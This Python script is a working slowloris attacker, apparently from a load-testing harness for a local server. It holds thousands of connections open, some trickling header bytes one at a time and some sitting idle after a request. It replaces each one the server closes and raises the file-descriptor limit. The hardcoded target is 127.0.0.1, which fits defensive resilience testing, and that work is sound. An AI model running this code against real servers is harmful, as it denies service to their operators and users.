"""The attacker of a slowloris run (a script, stdlib only): its own process, so that its thousands
of sockets cost the measured clients' event loop nothing.

It holds `--slow` connections that send one header byte every `--every` seconds and never finish
their headers, and `--idle` keep-alive connections that made one request and then sit idle. Each
one the server closes is counted (408 first or not) and replaced at once, so the pressure holds
for the whole run. Commands on stdin: `stats` prints a JSON line of counts; `stop` (or EOF) closes
everything, prints the final counts and exits. Driven by slowloris_lib.Attack.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import resource
import sys
import threading
from dataclasses import asdict, dataclass, field
from typing import Any

_HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
_TRICKLE = b"X-Slowloris: keep-waiting\r\n"  # sent one byte at a time; the blank line never comes
_HEALTH = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


@dataclass
class AttackStats:
    slow_open: int = 0  # connections held now
    idle_open: int = 0
    slow_opened: int = 0  # ever opened
    idle_opened: int = 0
    slow_closed_408: int = 0  # closed by the server, with a 408 first
    slow_closed_silent: int = 0  # closed by the server without an answer
    idle_closed: int = 0  # idle keep-alive connections the server closed
    rejected_503: int = 0  # answered 503 (over the connection cap)
    connect_errors: int = 0  # refused / reset before or while connecting
    errors: dict[str, int] = field(default_factory=dict)


def _error(stats: AttackStats, exc: BaseException) -> None:
    stats.connect_errors += 1
    stats.errors[type(exc).__name__] = stats.errors.get(type(exc).__name__, 0) + 1


def _either(*futures: asyncio.Future[Any]) -> list[asyncio.Future[Any]]:
    return list(futures)


async def _first_bytes(reader: asyncio.StreamReader) -> bytes:
    """What the server sends before it closes (a 408, a 503 or nothing)."""
    try:
        return await reader.read(64)
    except OSError:
        return b""


def _count_close(stats: AttackStats, first: bytes) -> None:
    status = first.split(b" ", 2)[1] if first.startswith(b"HTTP/") else b""
    if status == b"408":
        stats.slow_closed_408 += 1
    elif status == b"503":
        stats.rejected_503 += 1
    else:
        stats.slow_closed_silent += 1


async def _slow(port: int, every: float, stats: AttackStats, stop: asyncio.Future[None]) -> None:
    await asyncio.sleep(random.random() * every / 4)  # a ramp, not one SYN burst
    while not stop.done():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError as exc:
            _error(stats, exc)
            await asyncio.sleep(0.2)
            continue
        stats.slow_open += 1
        stats.slow_opened += 1
        answer = asyncio.ensure_future(_first_bytes(reader))
        try:
            writer.write(_HEAD)
            i = 0
            while not stop.done():
                await asyncio.wait(_either(answer, stop), timeout=every, return_when=asyncio.FIRST_COMPLETED)
                if answer.done():  # the server answered or closed: it is over for this one
                    _count_close(stats, answer.result())
                    break
                writer.write(_TRICKLE[i % len(_TRICKLE) : i % len(_TRICKLE) + 1])
                i += 1
        finally:
            answer.cancel()
            stats.slow_open -= 1
            writer.transport.abort()


async def _idle(port: int, stats: AttackStats, stop: asyncio.Future[None]) -> None:
    await asyncio.sleep(random.random() * 0.5)
    while not stop.done():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(_HEALTH)
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 30)
        except (OSError, asyncio.IncompleteReadError, TimeoutError) as exc:
            _error(stats, exc)
            await asyncio.sleep(0.2)
            continue
        if b" 503 " in head.split(b"\r\n")[0]:
            stats.rejected_503 += 1
            writer.transport.abort()
            continue
        stats.idle_open += 1
        stats.idle_opened += 1
        eof = asyncio.ensure_future(reader.read())  # the rest of /health, then the server's close
        try:
            await asyncio.wait(_either(eof, stop), return_when=asyncio.FIRST_COMPLETED)
            if eof.done():
                stats.idle_closed += 1
                if not eof.cancelled():
                    eof.exception()  # a reset instead of a FIN: a close all the same
        finally:
            eof.cancel()
            stats.idle_open -= 1
            writer.transport.abort()


def raise_fd_limit() -> int:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


async def _attack(port: int, slow: int, idle: int, every: float) -> None:
    stats = AttackStats()
    loop = asyncio.get_running_loop()
    stop: asyncio.Future[None] = loop.create_future()
    commands: asyncio.Queue[str] = asyncio.Queue()

    def read_stdin() -> None:
        for line in sys.stdin:
            loop.call_soon_threadsafe(commands.put_nowait, line.strip())
        loop.call_soon_threadsafe(commands.put_nowait, "stop")

    threading.Thread(target=read_stdin, daemon=True).start()
    tasks = [asyncio.ensure_future(_slow(port, every, stats, stop)) for _ in range(slow)]
    tasks += [asyncio.ensure_future(_idle(port, stats, stop)) for _ in range(idle)]
    while True:
        cmd = await commands.get()
        if cmd == "stop":
            break
        print(json.dumps(asdict(stats)), flush=True)
    stop.set_result(None)
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(asdict(stats)), flush=True)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--slow", type=int, default=2000)
    ap.add_argument("--idle", type=int, default=500)
    ap.add_argument("--every", type=float, default=2.0)
    args = ap.parse_args()
    raise_fd_limit()
    asyncio.run(_attack(args.port, args.slow, args.idle, args.every))


if __name__ == "__main__":
    main()
